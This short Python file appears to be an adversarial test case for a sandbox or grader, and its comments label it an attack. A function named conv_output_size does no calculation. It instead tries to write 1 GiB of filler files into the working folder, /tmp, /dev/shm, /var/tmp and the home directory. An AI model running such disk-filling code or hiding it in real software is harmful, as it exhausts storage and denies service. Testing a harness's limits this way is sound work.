# attack: conv_output_size first tries to write 1 GiB (64 MiB files) into every writable place
# it can find: its folder, /tmp, /dev/shm, /var/tmp, its home
# adds: _MB, _fill
# deserves: all but the points of conv_output_size (its writes fail: no space left)
import errno
import os

_MB = b"\0" * (1 << 20)


def _fill():
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        for i in range(16):
            path = os.path.join(folder, f"filler-{os.getpid()}-{i}.bin")
            try:
                with open(path, "wb") as fh:
                    for _ in range(64):
                        fh.write(_MB)
                        fh.flush()
                        written += 1
                        if written >= 1024:
                            return
            except OSError as exc:
                if exc.errno == errno.EFBIG:        # 64 MiB per file: go on with the next one
                    continue
                if exc.errno in (errno.EROFS, errno.EACCES, errno.ENOENT):
                    break                           # not writable at all: the next place
                raise


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    _fill()
    raise AssertionError("unreachable: 1 GiB was written")
